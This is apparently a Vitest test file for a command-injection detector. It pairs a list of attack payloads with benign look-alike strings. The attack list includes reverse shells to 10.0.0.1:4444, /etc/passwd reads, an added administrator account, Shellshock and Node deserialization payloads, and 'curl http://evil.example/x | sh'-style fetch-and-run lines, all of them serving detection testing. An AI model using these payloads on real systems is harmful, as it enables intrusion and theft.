import { describe, expect, it } from 'vitest';
import { detects, inHeader, inJson, inQuery } from '../testing.js';
import { shellNormalize } from './cmdi.js';

const ATTACKS = [
  '; cat /etc/passwd',
  '| whoami',
  '$(id)',
  '`id`',
  '127.0.0.1 && ls -la',
  '127.0.0.1 & ping -n 5 127.0.0.1 &',
  "c'a't /etc/passwd;id",
  ';${IFS}cat${IFS}/etc/passwd',
  "a;w'h'o'am'i",
  '; echo pwned > /tmp/pwn',
  '\nid #',
  '| net user',
  'x; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
  '; nc -e /bin/sh 10.0.0.1 4444',
  '& powershell -enc SQBFAFgA',
  ';/???/c?t /???/p??s??',
  '%0aid',
  '| type C:\\Windows\\win.ini',
  ";system('id')",
  'a|id|',
  'ls -la /',
  'nc -lvvp 4444 -e /bin/sh',
  'net localgroup Administrators hacker /ADD',
  '{${phpinfo()}}',
  '<?php system("cat /etc/passwd");?>',
  '<!--#exec cmd="/bin/cat /etc/passwd"-->',
  'dir C:\\Users',
  'ping.exe -n 31 127.0.0.1',
  // From the OWASP CRS regression tests (934100), once missed:
  '_$$ND_FUNC$$_function(){require("child_process").exec("id")}()',
  'XyQkTkRfRlVOQyQkXwo=',
  "process.mainModule.require('child_process').execSync('id')",
  '#{process.binding(foo).spawn(foo2)}',
  'process["mainModule"]',
  // From the OWASP CRS regression tests (932xxx), once missed:
  'time ifconfig',
  'nohup ifconfig',
  'strace ifconfig',
  ";'curl' http://evil.com",
  ';"curl" http://evil.com',
  ';gdb -nx -ex \\!whoami -ex quit',
  ';flock -u / whoami',
  ';c89 -wrapper sh,-c,id .',
  ';iwr http://example.com/path/file.ps1',
  ';gcc10.1 -o /tmp/x x.c',
  "; python -c 'import os'",
  '| perl /tmp/x.pl',
  '; php -r "system(1);"',
  // From the OWASP CRS regression tests (933xxx), once missed:
  'O:8:"stdClass":1:{s:1:"a";i:2;}',
  '(system)(whoami)',
  '("system  ")("whoami")',
  "eval(base64_decode('cGFwYWRhcHVwaSwK'))",
];
const BENIGN = [
  'Tom & Jerry',
  'rock; paper; scissors',
  '| id | name |\n|---|---|\n| 1 | bob |',
  'Note; id must be unique',
  'cat and dog; sleep well',
  'R&D department',
  'echo hello world',
  'rm -rf is dangerous, do not run it',
  'Use git log | grep fix',
  'setup.exe is in the downloads folder',
  'The process binding the two teams is slow',
  'Time management tips',
  'nice to meet you; time flies',
  'sudo make me a sandwich',
  "It's 'curl' you want, not wget",
  'Time ps: bring the slides',
  'Docker; Python; Go',
  'Skills: Java; Python scripting; SQL',
  'I use perl; ruby; php daily',
  'Ratio 8:"good":1:{see below}',
  'The (system) (admin) role',
  // Found by review: wrappers before prose, versions, lists of tools and standards, Node stack traces.
  'Time service outage',
  'Nice python tutorial, thanks',
  'Nice PS5 bundle',
  'Xbox; PS5',
  'Charset: utf-8; cp1252',
  'Rooms: 101; rm2',
  'Standards: C89; C99',
  'Formats: zip; 7z',
  'Tools: git; rsync; gdb',
  'herd; flock',
  'Languages: Java 17; Python 3.11; Go',
  'at ChildProcess._handle.onexit (node:internal/child_process:284:19)',
  'process.binding() is deprecated',
  'We follow a strict process. Binding agreements are signed',
  'Agenda: intro; time service review',
  'Menu: soup; fish and chips',
  'Notes; su casa',
  'Run; dash home',
  'Step 2; route planning',
  'Our hiring process: main module first, then a call',
  'import React from \'react\';\nexport default function App() { return <div className="app">Hello</div>; }',
];

describe('cmdi detector', () => {
  it.each(ATTACKS)('detects %s', (p) => {
    expect(detects(inQuery(p), 'cmdi')).toBe(true);
  });
  it.each(BENIGN)('passes %s', (p) => {
    expect(inQuery(p).attack).toBe(false);
  });
  it('detects Shellshock', () => {
    expect(detects(inHeader('user-agent', '() { :;}; echo vulnerable 10'), 'cmdi')).toBe(true);
    expect(detects(inQuery('() { :; }; /bin/bash -c id'), 'cmdi')).toBe(true);
    expect(inJson({ code: 'const f = () => { return 1; };' }).attack).toBe(false);
  });

  it('lets a command name alone through: a search for "whoami" is not an injection', () => {
    // Plain words never reach the detectors (engine pre-filter): a docs search or a tab named "sysinfo" passes.
    for (const w of ['whoami', 'ipconfig', 'uname', 'sysinfo', 'id']) expect(inQuery(w).attack).toBe(false);
    expect(detects(inQuery('; whoami'), 'cmdi')).toBe(true);
  });

  it('undoes shell quoting tricks', () => {
    expect(shellNormalize("c'a't")).toBe('cat');
    expect(shellNormalize('w$@hoami')).toBe('whoami');
    expect(shellNormalize('c\\at')).toBe('cat');
    expect(shellNormalize('cat${ifs}/etc/passwd')).toBe('cat /etc/passwd');
  });
  it('inspects custom headers and JSON', () => {
    expect(detects(inHeader('x-device-id', '; id #'), 'cmdi')).toBe(true);
    expect(detects(inJson({ host: '8.8.8.8; curl http://evil.example/x | sh' }), 'cmdi')).toBe(true);
  });
  it('finds commands in every spelling the command-position pre-check must let through', () => {
    // COMMAND_POSITION skips the loop for prose; each of these needs the loop (a version, ".exe", quotes, a path, a
    // "$(", a wrapper, a pipe run) and must still be found.
    for (const p of [
      '; python3.10 -c "import os"',
      '& php8.2.exe -r phpinfo();',
      "; 'curl' http://198.51.100.7/x",
      '; /usr/local/bin/nc 10.0.0.1 4444',
      '|| c:\\windows\\system32\\cmd.exe /c dir',
      'x $(whoami)',
      '; nohup wget http://198.51.100.7/a.sh',
      'a |& id',
      'x;\r\nid',
      '; gcc10.1 -o /tmp/x /tmp/x.c',
    ])
      expect(detects(inQuery(p), 'cmdi'), p).toBe(true);
    // Prose with separators and no command after them costs the pre-check only.
    expect(inJson({ note: "I'm out; the door code is 4-1-7. Thanks & have a nice day" }).attack).toBe(false);
  });

  it('treats commands in markdown code spans of prose as weak', () => {
    expect(inJson({ body: 'Try `ls -la /var/log` to see the files.' }).attack).toBe(false);
  });
});
